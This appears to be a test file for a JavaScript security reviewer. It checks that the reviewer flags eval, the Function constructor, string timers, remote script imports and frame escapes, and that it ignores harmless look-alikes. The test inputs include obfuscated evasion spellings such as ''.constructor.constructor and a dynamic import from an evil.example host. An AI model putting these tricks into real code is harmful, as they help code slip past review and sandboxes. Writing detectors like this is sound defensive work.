import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { codes, positions, review, reviewScript } from './review-fixture.ts';

// Each case: code, the findings expected as CODE@line:column (1-based).
async function expectFindings(source: string, expected: string[]): Promise<void> {
  const { diagnostics } = await reviewScript(source);
  assert.deepEqual(positions(diagnostics), expected);
}

describe('forbidden patterns [REV-104..REV-111]', () => {
  it('reports direct eval at its position [REV-104]', async () => {
    await expectFindings('const x = 1;\nconst y = eval("x + 1");\n', ['CODE_EVAL@2:11']);
  });

  it('reports indirect eval: (0, eval), window.eval, globalThis["eval"], self[`eval`] [REV-104]', async () => {
    await expectFindings(
      [
        '(0, eval)("1");',
        'window.eval("1");',
        "globalThis['eval']('1');",
        'self[`eval`]("1");',
        "window['ev' + 'al']('1');",
      ].join('\n'),
      ['CODE_EVAL@1:5', 'CODE_EVAL@2:1', 'CODE_EVAL@3:1', 'CODE_EVAL@4:1', 'CODE_EVAL@5:1'],
    );
  });

  it('reports eval taken by alias, optional chaining or destructuring [REV-104]', async () => {
    await expectFindings(
      ['const e = eval;', 'window?.eval("1");', 'const { eval: run } = globalThis;'].join('\n'),
      ['CODE_EVAL@1:11', 'CODE_EVAL@2:1', 'CODE_EVAL@3:9'],
    );
  });

  it('reports the Function constructor in all its spellings [REV-105]', async () => {
    await expectFindings(
      [
        'new Function("return 1");',
        'Function("return 1")();',
        'window.Function("a", "return a");',
        '(function () {}).constructor("return 1");',
        'Object.getPrototypeOf(async () => {}).constructor("await 1");',
        'const F = Function; new F("x");',
      ].join('\n'),
      [
        'CODE_FUNCTION_CONSTRUCTOR@1:1',
        'CODE_FUNCTION_CONSTRUCTOR@2:1',
        'CODE_FUNCTION_CONSTRUCTOR@3:1',
        'CODE_FUNCTION_CONSTRUCTOR@4:1',
        'CODE_FUNCTION_CONSTRUCTOR@5:1',
        'CODE_FUNCTION_CONSTRUCTOR@6:21',
      ],
    );
  });

  it("reports the Function constructor reached as the constructor of any function, such as ''.constructor.constructor [REV-105]", async () => {
    await expectFindings(
      [
        "''.constructor.constructor('return this')();",
        "[].constructor.constructor('return 1');",
        "String.constructor('return 1');",
        "new window.Array.constructor('return 1');",
        "const S = ''.constructor; S.constructor('return 1');",
        "const F = ''.constructor.constructor; F('return 1');",
        "function f() {} f.constructor('return 1');",
        "class A {} new A.constructor('return 1');",
        "''['constr' + 'uctor'][`constructor`]('return 1');",
        "(0, ({}).constructor.constructor)('return 1');",
      ].join('\n'),
      [
        'CODE_FUNCTION_CONSTRUCTOR@1:1',
        'CODE_FUNCTION_CONSTRUCTOR@2:1',
        'CODE_FUNCTION_CONSTRUCTOR@3:1',
        'CODE_FUNCTION_CONSTRUCTOR@4:1',
        'CODE_FUNCTION_CONSTRUCTOR@5:27',
        'CODE_FUNCTION_CONSTRUCTOR@6:39',
        'CODE_FUNCTION_CONSTRUCTOR@7:17',
        'CODE_FUNCTION_CONSTRUCTOR@8:12',
        'CODE_FUNCTION_CONSTRUCTOR@9:1',
        'CODE_FUNCTION_CONSTRUCTOR@10:1',
      ],
    );
  });

  it('does not report constructors of objects that are not functions, nor reading them [REV-105]', async () => {
    await expectFindings(
      [
        'class Shape { clone() { return new this.constructor(); } }',
        'const p = new Shape(); p.constructor(1);',
        'const same = (a, b) => a.constructor === b.constructor;',
        "const label = ''.constructor.constructor.name;",
      ].join('\n'),
      [],
    );
  });

  it('does not report Function used as a value for instanceof checks', async () => {
    await expectFindings('const ok = (f) => f instanceof Function;\n', []);
  });

  it('reports string arguments to setTimeout and setInterval, not functions [REV-106]', async () => {
    await expectFindings(
      [
        'setTimeout("tick()", 10);',
        'window.setInterval(`tick()`, 10);',
        'setTimeout("a" + name, 10);',
        'setTimeout(() => tick(), 10);',
        'setInterval(tick, 10);',
      ].join('\n'),
      ['CODE_STRING_TIMER@1:12', 'CODE_STRING_TIMER@2:20', 'CODE_STRING_TIMER@3:12'],
    );
  });

  it('reports imports of code outside the package, allows relative ones [REV-107] [REV-108]', async () => {
    await expectFindings(
      [
        "import a from 'https://cdn.example.com/a.js';",
        "import b from './b.js';",
        "import c from 'lodash';",
        "export * from '//cdn.example.com/c.js';",
        "export { d } from '../d.js';",
        "await import('https://evil.example/x.js');",
        "await import('./pages/cart.js');",
        'await import(location.hash.slice(1));',
        'await import(`./pages/${name}.js`);',
      ].join('\n'),
      [
        'CODE_REMOTE_IMPORT@1:15',
        'CODE_REMOTE_IMPORT@3:15',
        'CODE_REMOTE_IMPORT@4:15',
        'CODE_REMOTE_IMPORT@6:14',
        'CODE_NON_LITERAL_IMPORT@8:14',
        'CODE_NON_LITERAL_IMPORT@9:14',
      ],
    );
  });

  it('reports importScripts of remote or computed scripts [REV-107] [REV-108]', async () => {
    await expectFindings(
      "importScripts('./worker-lib.js', 'https://cdn.example.com/x.js', url);\n",
      ['CODE_REMOTE_IMPORT@1:34', 'CODE_NON_LITERAL_IMPORT@1:66'],
    );
  });

  it('reports a script element that code creates with a source outside the package [REV-107]', async () => {
    await expectFindings(
      [
        "const s = document.createElement('script');",
        "s.src = 'https://cdn.example.com/tracker.js';",
        "document.createElement('SCRIPT').src = '//cdn.example.com/a.js';",
        "s.setAttribute('src', 'data:text/javascript,alert(1)');",
        "Object.assign(document.createElement('script'), { src: 'https://cdn.example.com/b.js' });",
        "const url = 'https://cdn.example.com/c.js?v=' + version;",
        's.src = url;',
        "window.document.createElementNS('http://www.w3.org/1999/xhtml', 'script').src = 'https://x.example/d.js';",
      ].join('\n'),
      [
        'CODE_REMOTE_IMPORT@2:9',
        'CODE_REMOTE_IMPORT@3:40',
        'CODE_REMOTE_IMPORT@4:23',
        'CODE_REMOTE_IMPORT@5:56',
        'CODE_REMOTE_IMPORT@7:9',
        'CODE_REMOTE_IMPORT@8:81',
      ],
    );
  });

  it('reports document.write of a remote script tag, besides the document.write warning [REV-107] [REV-112]', async () => {
    await expectFindings(
      'document.write(\'<script src="https://cdn.example.com/x.js"></script>\');\n',
      ['CODE_DOCUMENT_WRITE@1:1', 'CODE_REMOTE_IMPORT@1:16'],
    );
  });

  it('does not report package scripts, other elements or sources it cannot know [REV-107]', async () => {
    await expectFindings(
      [
        "const s = document.createElement('script');",
        "s.src = './vendor/chart.js';",
        "const img = document.createElement('img');",
        "img.src = 'https://images.example.com/a.png';",
        "s.src = base + '/x.js';",
        "s.setAttribute('data-src', 'https://cdn.example.com/x.js');",
      ].join('\n'),
      [],
    );
  });

  it('reports every way of reaching the host frame [REV-110]', async () => {
    await expectFindings(
      [
        'window.parent.postMessage("x", "*");',
        "window['top'].location = 'x';",
        'opener.close();',
        'top.location.href;',
        'const p = parent;',
        'globalThis.frameElement;',
        "document.defaultView['parent'];",
      ].join('\n'),
      [
        'CODE_FRAME_ESCAPE@1:1',
        'CODE_FRAME_ESCAPE@2:1',
        'CODE_FRAME_ESCAPE@3:1',
        'CODE_FRAME_ESCAPE@4:1',
        'CODE_FRAME_ESCAPE@5:11',
        'CODE_FRAME_ESCAPE@6:1',
        'CODE_FRAME_ESCAPE@7:1',
      ],
    );
  });

  it('follows aliases and destructuring of the global object [REV-110]', async () => {
    await expectFindings(
      [
        'const w = window;',
        'const v = w;',
        'v.parent.postMessage("x", "*");',
        'const { top: t, opener } = self;',
      ].join('\n'),
      ['CODE_FRAME_ESCAPE@3:1', 'CODE_FRAME_ESCAPE@4:9', 'CODE_FRAME_ESCAPE@4:17'],
    );
  });

  it('does not follow a variable that is reassigned (its value is unknown)', async () => {
    await expectFindings('let w = window;\nw = {};\nw.parent;\n', []);
  });

  it('does not report local variables, parameters or properties named top, parent or eval', async () => {
    await expectFindings(
      [
        'function layout(top, parent) { return top + parent.width; }',
        'const eval2 = 1;',
        '{ const top = 3; console.log(top); }',
        'const box = { top: 1, parent: null, eval: 2 };',
        'box.top = box.parent;',
        "box['eval'];",
        'class Node { parent = null; }',
        "import('./x.js').then(({ top }) => top);",
      ].join('\n'),
      [],
    );
  });

  it('still reports a classic script top-level `var top`, which cannot shadow window.top', async () => {
    const { diagnostics } = await review({ 'legacy.cjs': 'var top;\ntop.location = "x";\n' });
    assert.deepEqual(positions(diagnostics), ['CODE_FRAME_ESCAPE@2:1']);
  });

  it('treats a module-level `const top` as a local binding', async () => {
    await expectFindings('export const top = 1;\nconsole.log(top);\n', []);
  });

  it('reads a .js file without import/export as a classic script, where `var parent` is global', async () => {
    await expectFindings('var parent = parent || 1;\n', ['CODE_FRAME_ESCAPE@1:14']);
    const asModule = await review({ 'a.mjs': 'var parent = parent || 1;\n' });
    assert.deepEqual(asModule.diagnostics, []);
  });

  it('reports assignment to document.domain but not reading it [REV-111]', async () => {
    await expectFindings(
      'document.domain = "example.com";\nwindow.document.domain = "x";\nconst d = document.domain;\n',
      ['CODE_DOCUMENT_DOMAIN@1:1', 'CODE_DOCUMENT_DOMAIN@2:1'],
    );
  });

  it('warns on document.write [REV-112]', async () => {
    const { diagnostics } = await reviewScript('document.write("<p>");\ndocument.writeln("x");\n');
    assert.deepEqual(positions(diagnostics), [
      'CODE_DOCUMENT_WRITE@1:1',
      'CODE_DOCUMENT_WRITE@2:1',
    ]);
    assert.ok(
      diagnostics.every((d) => d.severity === 'warning'),
      'every diagnostic is a warning',
    );
  });

  it('gives each finding its requirement id, a message and a one-line fix', async () => {
    const { diagnostics } = await reviewScript('eval("1"); top.x; new Function("");');
    assert.deepEqual(codes(diagnostics), [
      'CODE_EVAL',
      'CODE_FRAME_ESCAPE',
      'CODE_FUNCTION_CONSTRUCTOR',
    ]);
    assert.deepEqual(
      diagnostics.map((d) => d.requirement),
      ['REV-104', 'REV-110', 'REV-105'],
    );
    for (const d of diagnostics) {
      assert.equal(d.severity, 'error');
      assert.equal(d.location?.file, 'app.js');
      assert.ok(
        d.message.length > 0 && d.fix && !d.fix.includes('\n'),
        `${d.code} has a message and a one-line fix`,
      );
    }
  });
});
